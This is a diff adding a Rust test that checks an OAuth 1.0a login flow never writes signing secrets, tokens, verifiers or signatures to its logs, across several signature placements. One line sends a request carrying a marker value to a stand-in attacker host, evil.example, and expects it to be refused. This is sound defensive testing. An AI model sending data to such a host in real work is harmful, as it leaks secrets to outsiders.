@@ -9,6 +9,7 @@ use authlib_provider::{Endpoint, Quirk, Reply};
 use tracing_subscriber::fmt::MakeWriter;
 use url::Url;
 
+use crate::oauth1_world::{self, PLACEMENTS};
 use crate::world::{Browser, World};
 
 /// Collects what is logged.
@@ -121,6 +122,46 @@ async fn h35_b13_a_login_a_refresh_a_call_and_a_logout_show_no_secret() {
     assert!(secrets.len() >= 15, "{secrets:?}");
     assert!(log.text().contains("a user logged in"), "{}", log.text());
     log.check(&secrets, "the whole trip");
+}
+
+/// As above, for OAuth 1.0a: neither the secrets that sign nor the signatures.
+#[tokio::test]
+async fn h35_b13_an_oauth1_login_and_its_calls_show_no_secret() {
+    let (log, _guard) = listen();
+    for placement in PLACEMENTS {
+        let world = oauth1_world::world(|client| client.signature_type(placement));
+        let browser = Browser::default();
+        let url = world.start(&browser).await.unwrap();
+        let mut secrets = values(&url, &["oauth_token"]);
+        let state = login::Session::load(&browser).await.unwrap().unwrap();
+        log.show(&format!("{state:?}"));
+        let state = serde_json::to_value(&state).unwrap();
+        secrets.push(state["pending"][0]["token_secret"].as_str().unwrap().to_owned());
+        let back = world.provider.approve(&url, "alice");
+        secrets.extend(values(&back, &["oauth_verifier"]));
+        world.provider.misbehave(Quirk::Answer(Endpoint::OAuth1AccessToken, Reply::html(500)));
+        let error = world.finish(&browser, &back).await.unwrap_err();
+        log.show(&format!("{error} {error:?}"));
+        world.provider.behave();
+        let login = world.log_in(&browser).await.unwrap();
+        let call = world.app().post("x", &login.owner);
+        log.show(&format!("{login:?} {call:?} {:?} {:?}", world.oauth, world.app()));
+        call.send().await.unwrap();
+        let away = world.app().post("https://evil.example/?a=hush", &login.owner).send().await;
+        log.show(&format!("{:?}", away.unwrap_err()));
+        for seen in world.provider.requests() {
+            let header = seen.header("authorization").unwrap_or_default();
+            let header = header.split_once("oauth_signature=\"").map(|(_, rest)| rest);
+            secrets.extend(header.map(|rest| rest.trim_end_matches('"').to_owned()));
+            secrets.extend(seen.secret("oauth_signature").map(ToOwned::to_owned));
+        }
+        secrets.push(login.token.access_token.expose().to_owned());
+        secrets.push(login.token.token_secret.unwrap().expose().to_owned());
+        secrets.extend([oauth1_world::SECRET.to_owned(), login.owner.user, "hush".to_owned()]);
+        assert!(secrets.len() >= 10, "{secrets:?}");
+        log.check(&secrets, placement);
+    }
+    assert!(log.text().contains("a user logged in"), "{}", log.text());
 }
 
 /// Every kind of failure, with its error as `Display` and `Debug` show it, causes included.
